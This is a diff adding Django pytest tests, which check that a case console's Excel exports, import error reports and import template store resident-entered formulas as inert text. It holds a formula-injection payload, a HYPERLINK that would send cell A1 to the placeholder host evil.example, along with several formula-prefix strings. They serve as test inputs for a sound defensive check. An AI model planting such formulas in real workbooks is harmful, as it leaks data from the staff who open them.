@@ -1,0 +1,77 @@
+"""Every workbook the console hands out writes text as text: the case export, an import's problem report and the
+import template (a resident's '=HYPERLINK(…)' must never become a live formula in a staff member's Excel)."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from django.core.files.base import ContentFile
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import Workbook
+
+from gongzhi.cases import services
+from gongzhi.cases.tests.factories import world
+from gongzhi.console import imports
+from gongzhi.console.models import ImportJob
+from gongzhi.core.testing.excel import assert_no_formulas
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'
+PREFIXES = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"]
+
+
+@pytest.fixture
+def w():
+    return world()
+
+
+def _download(response) -> bytes:
+    assert response.status_code == 200, response.status_code
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def test_case_export_writes_residents_formulas_as_text(w, client):
+    texts = [HYPERLINK, *PREFIXES]
+    cases = []
+    for text in texts:
+        case = w.to_accepted(title=text, description=f"{text}\n详情", address=text)
+        cases.append(services.resolve(case=case, actor=w.steward, result=text))
+    client.force_login(w.centre)
+    book = assert_no_formulas(_download(client.get(reverse("console:cases_export"))))
+    cells = [c.value for row in book.worksheets[0].iter_rows(min_row=2) for c in row]
+    for case in cases:
+        case.refresh_from_db()  # the services strip surrounding blanks: compare with what was stored
+        assert case.title in cells and case.title.lstrip(" \t").startswith(tuple("=+-@＝＋－＠")), case.title
+        assert case.result in cells, case.result
+
+
+def test_import_problem_report_writes_file_names_and_values_as_text(w, client):
+    book = Workbook()
+    book.active.append(["工单编号", "标题", "紧急程度"])
+    book.active.append(["12345-1", "路灯不亮", "-很急"])
+    data = io.BytesIO()
+    book.save(data)
+    job = ImportJob.objects.create(
+        kind=ImportJob.Kind.CASES,
+        jurisdiction=w.jurisdiction,
+        original_name="=HYPERLINK(1).xlsx",
+        created_by=w.dispatcher,
+        created_at=timezone.now(),
+    )
+    job.file.save("x.xlsx", ContentFile(data.getvalue()))
+    imports.run(job.pk)
+    job.refresh_from_db()
+    assert job.status == ImportJob.Status.FAILED
+    client.force_login(w.dispatcher)
+    report = assert_no_formulas(_download(client.get(reverse("console:import_errors", args=[job.pk]))))
+    values = [c.value for row in report.worksheets[0].iter_rows(min_row=2) for c in row]
+    assert "=HYPERLINK(1).xlsx" in values
+    assert any(isinstance(v, str) and v.startswith("unknown urgency -很急") for v in values), values
+
+
+def test_import_template_has_no_formula(w, client):
+    client.force_login(w.dispatcher)
+    assert_no_formulas(_download(client.get(reverse("console:import_template"))))
